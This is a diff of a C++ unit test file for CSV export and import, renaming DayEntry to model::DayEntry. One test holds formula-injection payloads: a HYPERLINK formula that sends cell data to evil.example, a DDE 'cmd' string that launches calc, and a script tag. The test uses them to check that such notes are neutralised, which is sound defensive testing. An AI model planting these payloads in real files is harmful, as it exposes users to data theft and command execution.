@@ -20,7 +20,7 @@ const char* kHeaderNow =
     "other_product\n";
 
 TEST(CsvTest, ExportImportExportGivesTheSameBytes) {
-  std::vector<DayEntry> entries(3);
+  std::vector<model::DayEntry> entries(3);
   entries[0].date = *Date::parse("2026-12-08", "");
   entries[0].outcome = 6.5;
   entries[1].date = *Date::parse("2026-12-07", "");
@@ -55,9 +55,9 @@ TEST(CsvTest, NotesThatLookLikeFormulasAreNeutralisedAndReadBackAsTyped) {
   const std::vector<std::string> hostile = {
       "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A2)",
       "\t=1+1", "\r=1+1", "'=already quoted", "'plain apostrophe", "fine = not at the start", "ünïcode ✓ <script>"};
-  std::vector<DayEntry> entries;
+  std::vector<model::DayEntry> entries;
   for (std::size_t i = 0; i < hostile.size(); ++i) {
-    DayEntry e;
+    model::DayEntry e;
     e.date = Date::parse("2026-12-07", "")->plus_days(static_cast<int>(i));
     e.outcome = 5;
     e.note = hostile[i];
